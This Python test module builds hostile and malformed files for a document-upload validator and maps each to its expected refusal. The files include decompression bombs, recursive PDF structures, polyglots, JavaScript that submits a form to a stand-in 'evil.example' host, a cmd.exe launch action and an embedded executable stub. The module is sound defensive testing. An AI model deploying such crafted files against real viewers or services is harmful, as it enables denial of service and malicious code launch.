"""Files that strangers send as documents, and what becomes of each; and honest ones beside them."""

import zlib
from collections.abc import Callable
from random import Random

from bench._hostile_photos import SCRIPT
from bench._pictures import black, photo, png
from maintainuk.domain.documents import DocumentRefusal
from maintainuk.infrastructure.demo.papers import paper, pdf, stream

CATALOGUE, TREE = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"
LINES = ("Gas safety record", "Boiler: Worcester Bosch Greenstar 4000", "Result: pass")


def drawing(content: bytes, entries: bytes = b"", page: bytes = PAGE) -> bytes:
    """One page that draws this."""
    return pdf([CATALOGUE, TREE, page, stream(content, entries)])


def squeezed(part: bytes, times: int) -> bytes:
    """So many times the same, deflated without ever being whole."""
    squeeze = zlib.compressobj(9)
    parts = [squeeze.compress(part * 65_536) for _ in range(times)]
    return b"".join((*parts, squeeze.flush()))


def nested(depth: int) -> bytes:
    """Deflated so many times, each within the next."""
    content = squeezed(b"0 0 m 9 9 l S ", 40)
    for _ in range(depth - 1):
        content = zlib.compress(content, 9)
    return drawing(content, b"/Filter[" + b"/FlateDecode" * depth + b"]")


def box(media: bytes) -> bytes:
    """A page of this size."""
    return drawing(b"0 0 m 99 99 l S", page=PAGE.replace(b"[0 0 595 842]", media))


def form(does: bytes) -> bytes:
    """A page that shows a form, which does this."""
    page = PAGE.replace(b"/Contents", b"/Resources<</XObject<</X 5 0 R>>>>/Contents")
    looks = b"/Type/XObject/Subtype/Form/BBox[0 0 600 900]/Resources<</XObject<</X 5 0 R>>>>"
    return pdf([CATALOGUE, TREE, page, stream(b"/X Do"), stream(does, looks)])


def picture(entries: bytes, content: bytes) -> bytes:
    """A page that shows a picture."""
    page = PAGE.replace(b"/Contents", b"/Resources<</XObject<</X 5 0 R>>>>/Contents")
    return pdf(
        [
            CATALOGUE,
            TREE,
            page,
            stream(b"500 0 0 700 40 40 cm /X Do"),
            stream(content, b"/Type/XObject/Subtype/Image" + entries),
        ]
    )


def locked(algorithm: int = 4) -> bytes:
    """A document that asks for a password, and nobody knows which."""
    keys = Random(4).randbytes(32).hex().encode(), Random(5).randbytes(32).hex().encode()
    encrypted = b"<</Filter/Standard/V 2/R 3/Length 128/P -44/O<%s>/U<%s>>>" % keys
    if algorithm != 4:
        encrypted = b"<</Filter/NobodyKnows/V 9/R 9>>"
    trailer = b"/Encrypt 5 0 R/ID[<00112233445566778899aabbccddeeff><00112233445566778899aabbccddeeff>]"
    return pdf([CATALOGUE, TREE, PAGE, stream(b"0 0 m 9 9 l S"), encrypted], trailer)


def circular_tree() -> bytes:
    """Pages whose parent is their child."""
    return pdf(
        [CATALOGUE, b"<</Type/Pages/Count 40/Kids[3 0 R]>>", b"<</Type/Pages/Count 40/Kids[2 0 R]/Parent 2 0 R>>"]
    )


def deep(opening: bytes, depth: int = 200_000) -> bytes:
    """An object of so many objects within each other."""
    return pdf([CATALOGUE.replace(b">>", b"/Deep " + opening * depth + b">>"), TREE, PAGE, stream(b"")])


def looping_table() -> bytes:
    """A table of references whose predecessor it is itself."""
    whole = paper(LINES)
    start = whole.rindex(b"xref\n0")
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % start)


def with_script() -> bytes:
    """Runs a script when it is opened, and another when its page is."""
    act = b"<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('https://evil.example'\\))>>"
    catalogue = CATALOGUE.replace(b">>", b"/OpenAction %s/AA<</WC %s>>>>" % (act, act))
    return pdf([catalogue, TREE, PAGE.replace(b"/Contents", b"/AA<</O %s>>/Contents" % act), stream(b"0 0 m 9 9 l S")])


def with_file() -> bytes:
    """Holds a program, and a link that launches one."""
    names = b"/Names<</EmbeddedFiles<</Names[(x.exe) 5 0 R]>>>>/OpenAction<</S/Launch/F(cmd.exe)>>"
    return pdf(
        [
            CATALOGUE.replace(b">>", names + b">>"),
            TREE,
            PAGE,
            stream(b"0 0 m 9 9 l S"),
            b"<</Type/Filespec/F(x.exe)/EF<</F 6 0 R>>>>",
            stream(b"MZ\x90\0" + bytes(2_000), b"/Type/EmbeddedFile"),
        ]
    )


def with_annotations() -> bytes:
    """Links to elsewhere and asks for a form from there."""
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 500 500]/A<</S/URI/URI(https://evil.example)>>>>"
    return pdf(
        [
            CATALOGUE.replace(b">>", b"/AcroForm<</XFA(<xdp/>)/Fields[]>>>>"),
            TREE,
            PAGE.replace(b"/Contents", b"/Annots[%s]/Contents" % link),
            stream(b"0 0 m 9 9 l S"),
        ]
    )


WIDE = b"/Width 30000/Height 30000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode"
REFUSED: dict[str, tuple[Callable[[], bytes], set[DocumentRefusal]]] = {
    "nothing": (lambda: b"", {DocumentRefusal.UNSUPPORTED_FORMAT}),
    "chance": (lambda: b"x" + Random(7).randbytes(100_000), {DocumentRefusal.UNSUPPORTED_FORMAT}),
    "a program called .pdf": (lambda: b"MZ\x90\0" + bytes(60_000), {DocumentRefusal.UNSUPPORTED_FORMAT}),
    "a Word document": (lambda: b"PK\3\4" + bytes(60_000), {DocumentRefusal.UNSUPPORTED_FORMAT}),
    "a web page": (lambda: b"<!doctype html>" + SCRIPT, {DocumentRefusal.UNSUPPORTED_FORMAT}),
    "PostScript": (lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n", {DocumentRefusal.UNSUPPORTED_FORMAT}),
    "an SVG with a script": (lambda: b"<svg>" + SCRIPT + b"</svg>", {DocumentRefusal.UNSUPPORTED_FORMAT}),
    "a film": (lambda: b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(5_000), {DocumentRefusal.UNSUPPORTED_FORMAT}),
    "the mark of a PDF alone": (lambda: b"%PDF-1.7\n", {DocumentRefusal.DAMAGED}),
    "the mark of a PDF before chance": (lambda: b"%PDF-1.7\n" + Random(9).randbytes(90_000), {DocumentRefusal.DAMAGED}),
    "the mark of a PDF before a script": (lambda: b"%PDF-1.7\n" + SCRIPT, {DocumentRefusal.DAMAGED}),
    "the first third of a PDF": (lambda: paper(LINES)[:300], {DocumentRefusal.DAMAGED}),
    "a PDF without pages": (lambda: pdf([CATALOGUE, b"<</Type/Pages/Count 0/Kids[]>>"]), {DocumentRefusal.DAMAGED}),
    "fifty-one pages": (lambda: paper(*[LINES] * 51), {DocumentRefusal.TOO_MANY_PAGES}),
    "a password": (locked, {DocumentRefusal.LOCKED}),
    "an encryption of its own": (lambda: locked(9), {DocumentRefusal.LOCKED, DocumentRefusal.DAMAGED}),
    "a drawing of a gigabyte": (
        lambda: drawing(squeezed(b"0 0 m 9 9 l S ", 1_200), b"/Filter/FlateDecode"),
        {DocumentRefusal.TOO_MUCH_MEMORY, DocumentRefusal.TOO_SLOW},
    ),
    "a photo of fifty megapixels and more": (
        lambda: png(30_000, 30_000, pixels=black(1_000)),
        {DocumentRefusal.TOO_MANY_PIXELS},
    ),
    "half a photo": (lambda: photo()[:9_000], {DocumentRefusal.DAMAGED}),
}
"""What is never shown, and the reasons that may be given."""

ANYTHING = set(DocumentRefusal)
ENDURED: dict[str, Callable[[], bytes]] = {
    "deflated three times": lambda: nested(3),
    "deflated twelve times": lambda: nested(12),
    "a page of fourteen million points": lambda: box(b"[0 0 14400000 14400000]"),
    "a page as thin as a hair": lambda: box(b"[0 0 1 1440000]"),
    "a page of no size": lambda: box(b"[0 0 0 0]"),
    "a page inside out": lambda: box(b"[595 842 0 0]"),
    "a page beyond all numbers": lambda: box(b"[-1e308 -1e308 1e308 1e400]"),
    "a unit of a million points": lambda: box(b"[0 0 595 842]/UserUnit 1000000"),
    "a form that shows itself": lambda: form(b"/X Do /X Do"),
    "a page that shows itself": lambda: drawing(
        b"/X Do", page=PAGE.replace(b"/C", b"/Resources<</XObject<</X 4 0 R>>>>/C")
    ),
    "pages in a circle": circular_tree,
    "arrays within arrays": lambda: deep(b"["),
    "dictionaries within dictionaries": lambda: deep(b"<</A"),
    "a table that is its own predecessor": looping_table,
    "states saved and never given back": lambda: drawing(squeezed(b"q ", 60), b"/Filter/FlateDecode"),
    "a picture of nine hundred megapixels": lambda: picture(WIDE, black(3_000_000)),
    "a length that is not true": lambda: drawing(b"0 0 m 9 9 l S").replace(b"/Length 14", b"/Length 999999999"),
    "a length that is its own stream": lambda: drawing(b"0 0 m 9 9 l S").replace(b"/Length 13", b"/Length 4 0 R"),
    "a million pages, it says": lambda: paper(LINES).replace(b"/Count 1", b"/Count 1000000"),
    "a script": with_script,
    "a program within": with_file,
    "a link and a form of elsewhere": with_annotations,
    "a PDF behind a web page": lambda: b"<html>" + SCRIPT + b"\n" + paper(LINES),
    "a program behind a PDF": lambda: paper(LINES) + b"MZ\x90\0" + SCRIPT,
    "a ZIP behind a PDF": lambda: paper(LINES) + b"PK\3\4" + bytes(2_000),
    "references out of range": lambda: paper(LINES).replace(b"00000 n", b"99999 n"),
}
"""What may be shown or refused, whichever: nothing of it runs, and it takes neither the memory nor the time."""
